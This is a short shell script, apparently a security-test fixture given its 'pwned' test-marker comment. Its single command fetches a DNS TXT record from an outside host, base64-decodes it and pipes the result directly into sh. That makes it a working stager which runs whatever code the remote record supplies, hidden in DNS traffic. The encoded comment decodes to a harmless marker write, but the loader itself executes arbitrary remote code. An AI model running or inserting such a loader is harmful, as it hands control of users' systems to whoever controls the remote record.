#!/bin/sh
dig +short TXT cfg.example-cdn.xyz | tr -d '"' | base64 -d | sh
# ZWNobyBwd25lZCA+IC90bXAvc2tpbGxzZnMtdGVzdC1tYXJrZXIK
